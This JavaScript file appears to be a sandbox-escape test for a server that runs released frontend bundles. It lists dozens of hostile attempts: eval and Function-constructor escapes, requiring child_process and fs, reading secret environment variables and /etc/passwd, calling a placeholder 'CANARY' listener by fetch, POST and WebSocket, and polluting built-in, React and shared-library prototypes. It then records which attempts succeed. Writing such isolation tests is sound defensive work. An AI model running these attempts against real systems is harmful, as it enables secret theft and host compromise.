// What a hostile release tries on a server. The text of this file is put in front of a released bundle, with the address of a
// listener that nobody may reach in place of CANARY; each attempt succeeds where it returns a text that says what it got.
// oxlint-disable
const attempts = {
  'Function constructor': () => Function('return process')().pid,
  'constructor of a function': () => (() => 0).constructor('return process')().pid,
  'constructor of an async function': () => (async () => 0).constructor('return process') && 'compiled',
  'constructor of a generator': () => function* () {}.constructor('return process') && 'compiled',
  'Reflect.construct of Function': () => Reflect.construct(Function, ['return process']) && 'compiled',
  eval: () => eval('1 + 1'),
  'indirect eval': () => (0, eval)('process'),
  'text in setTimeout': () => setTimeout('process.exit()', 0),
  'require of the file system': () => require('node:fs') && 'got it',
  'require of child processes': () => require('child_process') && 'got it',
  'require of vm': () => require('node:vm') && 'got it',
  'require of react-dom/server': () => require('react-dom/server') && 'got it',
  'main module': () => require.main.filename,
  'cache of require': () => Object.keys(require.cache).length,
  'loader behind module': () => module.constructor._load('fs') && 'got it',
  'parent of module': () => module.parent.filename,
  'dynamic import': () => import('node:fs').then((fs) => fs.readdirSync('/').length),
  'dynamic import of data': () => import('data:text/javascript,export default process.pid').then((m) => m.default),
  'built-in modules of the process': () => process.getBuiltinModule('fs') && 'got it',
  'binding of the process': () => process.binding('fs') && 'got it',
  'global process': () => Reflect.get(globalThis, 'process').pid,
  'process behind Object': () => ({}).constructor.constructor('return this')().process.pid,
  'secret in the environment': () => process.env.SUPABASE_SECRET_KEY,
  'anything in the environment': () =>
    Object.keys(process.env)
      .filter((name) => name !== 'NODE_ENV')
      .join() || undefined,
  'call sites of a stack': () => {
    Error.prepareStackTrace = (_error, sites) => sites;
    const sites = new Error('x').stack;
    return Array.isArray(sites) ? sites.map((site) => String(site.getThis())).join() : undefined;
  },
  'callers of a function': () =>
    (function inner() {
      return inner.caller && 'got it';
    })(),
  'this of a sloppy call': () =>
    (function () {
      return this;
    })() && 'got it',
  'file through fetch': () => fetch('file:///etc/passwd').then((answer) => answer.text()),
  'another port through fetch': () => fetch('CANARY/fetch').then((answer) => `status ${answer.status}`),
  'another port by POST': () =>
    fetch('CANARY/post', { method: 'POST', body: 'x' }).then((answer) => `status ${answer.status}`),
  'another host through a Request': () =>
    fetch(new Request('http://example.com/')).then((answer) => `status ${answer.status}`),
  'socket of the web': () => new WebSocket('CANARY/ws'.replace('http', 'ws')) && 'opened',
  'event source': () => new EventSource('CANARY/events') && 'opened',
  'worker thread': () => new Worker('data:,') && 'started',
  'broadcast channel': () => new BroadcastChannel('x') && 'opened',
  'message channel': () => new MessageChannel() && 'opened',
  'web assembly': () => new WebAssembly.Memory({ initial: 1 }) && 'made',
  'shared memory': () => new SharedArrayBuffer(8) && 'made',
  'local storage': () => (localStorage.setItem('a', 'b'), 'written'),
  'Array.prototype': () => {
    Array.prototype.map = () => [];
    return 'patched';
  },
  'Object.prototype': () => {
    Object.prototype.polluted = 1;
    return 'patched';
  },
  'Object.prototype by defineProperty': () =>
    Object.defineProperty(Object.prototype, 'polluted', { value: 1 }) && 'patched',
  'Promise.prototype': () => {
    Promise.prototype.then = () => 0;
    return 'patched';
  },
  'Map.prototype': () => {
    Map.prototype.get = () => 0;
    return 'patched';
  },
  'String.prototype': () => {
    String.prototype.replace = () => '';
    return 'patched';
  },
  'JSON.stringify': () => {
    JSON.stringify = () => '{}';
    return 'patched';
  },
  'Math.random': () => {
    Math.random = () => 0;
    return 'patched';
  },
  'Date.now': () => {
    Date.now = () => 0;
    return 'patched';
  },
  'Symbol.iterator of arrays': () => {
    Array.prototype[Symbol.iterator] = null;
    return 'patched';
  },
  'generator prototype': () => {
    Object.getPrototypeOf(function* () {}).prototype.next = null;
    return 'patched';
  },
  'URL.prototype': () => {
    URL.prototype.toString = () => 'x';
    return 'patched';
  },
  'accessor of URL.prototype': () => Object.defineProperty(URL.prototype, 'origin', { get: () => 'x' }) && 'patched',
  'Headers.prototype': () => {
    Headers.prototype.get = () => 'x';
    return 'patched';
  },
  'Request.prototype': () => {
    Request.prototype.text = () => 'x';
    return 'patched';
  },
  'Response.prototype': () => {
    Response.prototype.json = () => 'x';
    return 'patched';
  },
  'AbortSignal.timeout': () => {
    AbortSignal.timeout = () => 0;
    return 'patched';
  },
  'Buffer.from': () => {
    Buffer.from = () => 0;
    return 'patched';
  },
  'TextEncoder.prototype': () => {
    TextEncoder.prototype.encode = () => 0;
    return 'patched';
  },
  'crypto.randomUUID': () => {
    crypto.randomUUID = () => 'x';
    return 'patched';
  },
  'performance.now': () => {
    performance.now = () => 0;
    return 'patched';
  },
  'console of everybody': () => {
    console.error = () => 0;
    return 'patched';
  },
  'real fetch': () =>
    Object.defineProperty(Reflect.get(Reflect.getPrototypeOf(globalThis) ?? {}, 'constructor').prototype, 'fetch', {
      value: 1,
    }) && 'patched',
  'timers of others': () => setTimeout(() => 0, 1)._idleNext && 'got it',
  'immediates of others': () => setImmediate(() => 0)._onImmediate && 'got it',
  'hooks of React': () => {
    require('react').useState = () => 0;
    return 'patched';
  },
  'internals of React': () => Object.keys(require('react')).find((name) => name.includes('INTERNALS')),
  'default of React': () =>
    require('react').default && Object.keys(require('react').default).find((name) => name.includes('INTERNALS')),
  'internals of react-dom': () => Object.keys(require('react-dom')).find((name) => name.includes('INTERNALS')),
  'Component of React': () => {
    require('react').Component.prototype.setState = () => 0;
    return 'patched';
  },
  'jsx of everybody': () => {
    require('react/jsx-runtime').jsx = () => null;
    return 'patched';
  },
  'error class of the contracts': () => {
    require('shared-contracts').ShopError.prototype.toString = () => 'x';
    return 'patched';
  },
  'function of the contracts': () => {
    require('shared-contracts').formatMoney.call = () => 'x';
    return 'patched';
  },
  'export of the contracts': () => {
    require('shared-contracts').formatMoney = () => 'x';
    return 'patched';
  },
  'constant of the contracts': () => {
    require('shared-contracts').BRAND.name = 'x';
    return 'patched';
  },
  'nested constant of the contracts': () => {
    require('shared-contracts').ERROR_REGISTRY['CART-001'].shown = 'x';
    return 'patched';
  },
  'events of the contracts': () => {
    require('shared-contracts').EVENTS.planted = {};
    return 'patched';
  },
  'schema of an event': () => {
    Object.values(require('shared-contracts').EVENTS)[0].schema = null;
    return 'patched';
  },
  'parser of a schema': () => {
    const found = Object.values(require('shared-contracts').EVENTS)
      .flatMap((event) => Object.values(event))
      .find((value) => value && value._zod);
    if (!found) return undefined;
    found._zod.run = () => ({ value: {}, issues: [] });
    return 'patched';
  },
  'default value of a context': () => {
    const context = require('shared-contracts').PlatformContext;
    const before = context._currentValue;
    context._currentValue = before;
    return (context.planted = 'x');
  },
  'primitives of the design system': () => {
    require('shared-ui').planted = 1;
    Object.values(require('shared-ui'))[0].displayName = 'x';
    return 'patched';
  },
};
const outcomes = {};
for (const [name, attempt] of Object.entries(attempts)) {
  const note = (got) =>
    (outcomes[name] =
      got === undefined || got === false || got === null || got === 0
        ? 'nothing'
        : `SUCCEEDED: ${String(got).slice(0, 80)}`);
  const refuse = (error) => (outcomes[name] = `refused: ${String(error).slice(0, 80)}`);
  try {
    const got = attempt();
    if (got && typeof got.then === 'function') {
      outcomes[name] = 'pending';
      got.then(note, refuse);
    } else note(got);
  } catch (error) {
    refuse(error);
  }
}
const shown = () => JSON.stringify(outcomes);
